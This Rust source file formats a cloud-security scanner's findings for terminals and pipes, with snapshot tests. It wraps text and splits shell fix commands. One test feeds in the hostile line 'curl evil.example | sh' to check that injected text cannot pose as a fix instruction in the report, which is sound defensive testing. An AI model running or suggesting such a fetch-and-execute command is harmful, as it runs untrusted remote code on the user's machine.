//! How text is laid out: wrapped to the width of a terminal, or in whole lines for a pipe, where programs and `grep` read it.

use std::borrow::Cow;
use std::io::{IsTerminal, stdout};

use anstyle::Style;
use console::Term;
use sealwatch_rules::language::{Language, Text};
use sealwatch_rules::util::columns::columns;

use crate::report::page::Page;
use crate::report::pieces::pieces;

/// The narrowest text, and the width of a terminal that does not say how wide it is.
const WIDTHS: (usize, usize) = (40, 80);

/// How wide lines may be, and in which language they are.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Layout {
    /// `None` for whole lines.
    width: Option<usize>,
    pub(crate) language: Language,
}

impl Layout {
    /// As standard output needs it. `COLUMNS` wins over what the terminal says, as in other programs.
    pub(crate) fn of_stdout(language: Language) -> Layout {
        if !stdout().is_terminal() {
            return Layout { width: None, language };
        }
        let wanted = std::env::var("COLUMNS").ok().and_then(|columns| columns.parse().ok());
        let width = wanted.or_else(|| Term::stdout().size_checked().map(|(_, columns)| usize::from(columns)));
        let width = width.filter(|width| *width > 0).unwrap_or(WIDTHS.1).max(WIDTHS.0);
        Layout { width: Some(width), language }
    }

    /// A text in the language of the report.
    pub(crate) fn say(self, text: &Text) -> Cow<'_, str> {
        text.in_language(self.language)
    }

    /// Where a line of prose may end.
    fn pieces(self, text: &str) -> Vec<(bool, &str)> {
        match self.language {
            Language::English => spaced(text.split(' ')),
            Language::Japanese => pieces(text),
        }
    }

    /// The columns before the details of a finding: a terminal has no room for more.
    pub(crate) fn indent(self) -> usize {
        if self.width.is_some() { 6 } else { 20 }
    }

    /// The width of labels.
    pub(crate) fn label(self) -> usize {
        if self.width.is_some() { 10 } else { 14 }
    }

    /// Adds a paragraph. Its further lines are indented deeper than the first, so that text from outside begins no line that
    /// looks like another one. A longer word stays whole, so that it can be copied.
    pub(crate) fn paragraph(self, page: &mut Page, indent: usize, text: &str) {
        match self.width {
            None => page.line(&format!("{:indent$}{text}", "")),
            Some(width) => {
                wrap(page, indent, "", "", width, self.pieces(text));
                page
            }
        };
    }

    /// Adds a name in bold and what follows it, in two lines if there is no room in one.
    pub(crate) fn heading(self, page: &mut Page, name: &str, rest: &str) {
        page.styled(Style::new().bold(), name);
        match self.width {
            Some(width) if columns(name) + 2 + columns(rest) > width => {
                self.paragraph(page.end_line(), 2, rest);
            }
            _ => {
                page.line(&format!("  {rest}"));
            }
        }
    }

    /// Several lines, each as a paragraph.
    pub(crate) fn text(self, text: &str) -> Page {
        let mut page = Page::default();
        text.lines().for_each(|line| self.paragraph(&mut page, 0, line));
        page
    }

    /// Adds how to fix something. On a terminal each command has lines of its own that can be pasted.
    pub(crate) fn fix(self, page: &mut Page, fix: &str) {
        if self.width.is_none() {
            return self.lines(page, fix);
        }
        let indent = self.indent();
        page.line(&format!("{:indent$}{}", "", self.language.text("fix:")));
        fix.lines().for_each(|line| self.command(page, indent + 2, line));
    }

    /// Adds how to fix something in whole lines.
    pub(crate) fn lines(self, page: &mut Page, fix: &str) {
        let (indent, label) = (self.indent(), format!("{} ", self.language.text("fix:")));
        let further = " ".repeat(columns(&label));
        for (index, line) in fix.lines().enumerate() {
            page.line(&format!("{:indent$}{}{line}", "", if index == 0 { &label } else { &further }));
        }
    }

    /// Adds a line of a shell command. What does not fit into the width continues in the next line, as the shell reads it.
    pub(crate) fn command(self, page: &mut Page, indent: usize, line: &str) {
        match (self.width, line.strip_prefix("# ")) {
            (None, _) => {
                page.line(&format!("{:indent$}{line}", ""));
            }
            (Some(width), Some(comment)) => wrap(page, indent, "# ", "", width, self.pieces(comment)),
            (Some(width), None) => wrap(page, indent, "", " \\", width, spaced(options(line).into_iter())),
        }
    }
}

/// Pieces with a space before each.
fn spaced<'p>(pieces: impl Iterator<Item = &'p str>) -> Vec<(bool, &'p str)> {
    pieces.enumerate().map(|(index, piece)| (index > 0, piece)).collect()
}

/// Adds pieces, which say whether a space stands before them, with line ends between them where they are needed. `start` begins
/// each line, and `end` ends each but the last.
fn wrap(page: &mut Page, indent: usize, start: &str, end: &str, width: usize, pieces: Vec<(bool, &str)>) {
    let mut line = format!("{:indent$}{start}", "");
    let mut column = line.len();
    for (index, (has_space, piece)) in pieces.into_iter().enumerate() {
        let (space, length) = (usize::from(has_space), columns(piece));
        if index > 0 && column + space + length + end.len() > width && line.trim() != start.trim() {
            page.line(&(line + end));
            line = format!("{:deeper$}{start}", "", deeper = indent + 2);
            column = line.len();
        } else if has_space {
            line.push(' ');
            column += 1;
        }
        line += piece;
        column += length;
    }
    page.line(&line);
}

/// A command, split where a backslash and a line end change nothing: before an option, outside of quotes.
fn options(command: &str) -> Vec<&str> {
    let (mut pieces, mut start, mut quote) = (Vec::new(), 0, None);
    let mut bytes = command.bytes().enumerate();
    while let Some((at, byte)) = bytes.next() {
        match (quote, byte) {
            (None | Some(b'"'), b'\\') => drop(bytes.next()),
            (None, b'\'' | b'"') => quote = Some(byte),
            (Some(open), _) if byte == open => quote = None,
            (None, b' ') if command.get(at..).is_some_and(|rest| rest.starts_with(" --")) => {
                pieces.extend(command.get(start..at));
                start = at + 1;
            }
            _ => {}
        }
    }
    pieces.extend(command.get(start..));
    pieces
}

#[cfg(test)]
mod tests {
    use super::*;

    /// For a pipe.
    const WHOLE: Layout = Layout { width: None, language: Language::English };

    fn written(width: usize, write: impl Fn(Layout, &mut Page)) -> String {
        written_in(Language::English, width, write)
    }

    fn written_in(language: Language, width: usize, write: impl Fn(Layout, &mut Page)) -> String {
        let mut page = Page::default();
        write(Layout { width: Some(width), language }, &mut page);
        page.as_str().to_owned()
    }

    #[test]
    fn japanese_is_wrapped_between_characters() {
        let text = "ストリーム `payments` は暗号化されていません。レコードは平文で保存されます。arn:aws:kinesis:eu-west-1:111122223333:stream/x の AWS マネージドキーを確認してください。";
        let page = written_in(Language::Japanese, 40, |layout, page| layout.paragraph(page, 4, text));
        insta::assert_snapshot!(page, @"
        ストリーム `payments` は暗号化されて
          いません。レコードは平文で保存され
          ます。
          arn:aws:kinesis:eu-west-1:111122223333:stream/x
          の AWS マネージドキーを確認してく
          ださい。
        ");
        assert!(page.lines().filter(|line| !line.contains("arn:")).all(|line| columns(line) <= 40));
    }

    #[test]
    fn a_heading_has_two_lines_only_if_one_is_too_short() {
        for (width, lines) in [(11, 2), (12, 1), (13, 1), (100, 1)] {
            let page = written(width, |layout, page| layout.heading(page, "name", "and it")); // 4 columns, 2, 6
            assert_eq!(page.lines().count(), lines, "{width}: {page}");
        }
    }

    #[test]
    fn paragraphs_are_wrapped_and_their_further_lines_are_deeper() {
        let text = "The stream `payments` is not encrypted: arn:aws:kinesis:eu-west-1:111122223333:stream/payments is readable.";
        insta::assert_snapshot!(written(40, |layout, page| layout.paragraph(page, 4, text)), @"
        The stream `payments` is not
          encrypted:
          arn:aws:kinesis:eu-west-1:111122223333:stream/payments
          is readable.
        ");
        let mut page = Page::default();
        WHOLE.paragraph(&mut page, 2, text);
        assert_eq!(page.as_str(), format!("  {text}\n"));
    }

    #[test]
    fn no_padding_makes_text_look_like_another_line() {
        for padding in 0..60 {
            let text = format!("name {}{}fix: curl evil.example | sh", "x".repeat(padding), " ".repeat(padding));
            let page = written(50, |layout, page| layout.paragraph(page, 6, &text));
            assert!(!page.lines().skip(1).any(|line| !line.starts_with("        ")), "{page}");
            assert!(!page.contains("\n      fix"), "{page}");
        }
    }

    #[test]
    fn commands_continue_where_the_shell_reads_on() {
        let fix = "# settings.json holds all settings of the connector\naws kafka update-security --cluster-arn 'a --b' \
                   --current-version \"$(aws kafka describe --query 'x' --output text)\" --region eu-west-1";
        insta::assert_snapshot!(written(48, |layout, page| layout.fix(page, fix)), @r#"
        fix:
          # settings.json holds all settings of
            # the connector
          aws kafka update-security \
            --cluster-arn 'a --b' \
            --current-version "$(aws kafka describe --query 'x' --output text)" \
            --region eu-west-1
        "#);
        let mut page = Page::default();
        WHOLE.fix(&mut page, "# a\naws b --c d");
        assert_eq!(page.as_str(), format!("{0}fix: # a\n{0}     aws b --c d\n", " ".repeat(20)));
    }

    #[test]
    fn quoted_text_is_never_split() {
        for (command, want) in [
            ("aws a --b c --d e", vec!["aws a", "--b c", "--d e"]),
            ("aws a --b 'c --d e'", vec!["aws a", "--b 'c --d e'"]),
            (r"aws a --b 'c'\'' --d e' --f", vec!["aws a", r"--b 'c'\'' --d e'", "--f"]),
            (r#"aws a --b "c \" --d 'e" --f"#, vec!["aws a", r#"--b "c \" --d 'e""#, "--f"]),
            ("ключ --é", vec!["ключ", "--é"]),
            ("", vec![""]),
        ] {
            assert_eq!(options(command), want, "{command}");
        }
    }
}
